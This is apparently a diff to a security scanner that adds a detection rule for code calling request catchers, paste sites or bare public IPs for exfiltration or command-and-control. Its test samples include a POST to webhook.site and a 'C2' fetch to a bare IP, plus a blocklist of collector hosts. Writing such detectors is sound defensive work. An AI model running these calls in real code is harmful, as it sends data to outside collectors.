@@ -90,6 +90,15 @@ _DETECTORS = (
         "scripts/run.py",
     ),
     Rule(
+        "network.collector-host",
+        ("8.2",),
+        "high",
+        "code",
+        "exfiltration and command-and-control: code calls a request catcher, a paste site or "
+        "a bare public IP address",
+        "scripts/run.py",
+    ),
+    Rule(
         "malware.encrypt-and-delete",
         ("13.1",),
         "critical",
@@ -1140,6 +1149,19 @@ EXAMPLES.update(
                 "import subprocess\nsubprocess.run(['/bin/sh', 'build.sh'], check=True)",
                 "import socket\nwith socket.create_connection(('example.invalid', 443)) as s:\n"
                 "    print('open')",
+            ),
+        ),
+        "network.collector-host": (
+            "scripts/run.py",
+            (
+                "import requests\nrequests.post('https://webhook.site/5c1e', json=dict(a=1))",
+                "import urllib.request\nC2 = 'http://5.6.7.8/api/collect'\n"
+                "urllib.request.urlopen(C2)",
+            ),
+            (
+                "BLOCKLIST = ['webhook.site', 'pipedream.net']\nprint(len(BLOCKLIST))",
+                "import requests\nrequests.get('http://192.168.1.20/status')",
+                "p.add_argument('--callback', help='e.g. https://x.oast.fun')",
             ),
         ),
         "malware.keylogger": (
